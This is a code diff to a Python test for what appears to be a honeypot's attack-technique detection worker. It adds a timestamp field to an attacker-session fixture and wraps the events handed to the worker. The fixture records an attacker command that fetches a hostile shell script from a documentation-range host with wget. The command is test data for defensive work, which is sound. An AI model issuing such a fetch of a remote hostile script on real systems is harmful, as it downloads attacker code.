@@ -21,11 +21,13 @@ from decnet.ttp.rules import RuleState
 from decnet.ttp.store.factory import get_rule_store
 from decnet.ttp.worker import TtpWorker
 from tests.dbkit import open_repo
+from tests.wirekit import taken
 
 SECRET = "http://203.0.113.66/zzhostile.sh"
 PAYLOAD = {
     "session_id": "s1",
     "attacker_ip": "203.0.113.1",
+    "ended_at": 2.0,
     "commands": [{"id": "c1", "command_text": f"wget {SECRET}", "ts": 1.0}],
     "downloads": [{"url": SECRET, "sha256": None}],
 }
@@ -71,7 +73,9 @@ async def test_a_batch_is_one_tree_and_its_news_carry_it_on(
             second = Event("attacker.observed", {"attacker_ip": "203.0.113.2"}, headers=telemetry.inject())
         async with repo.transaction() as bound:
             tx = Transaction(bound)
-            await worker.handle([Event("attacker.session.ended", PAYLOAD, headers=headers), second], tx)
+            await worker.handle(
+                taken([Event("attacker.session.ended", PAYLOAD, headers=headers), second]), tx
+            )
     found = by_name(spans)
     batch, lifter, evaluated, fired = (
         found[name] for name in ("ttp.worker.batch", "ttp.lifter.rule_engine", "ttp.eval", "ttp.rule.fire")
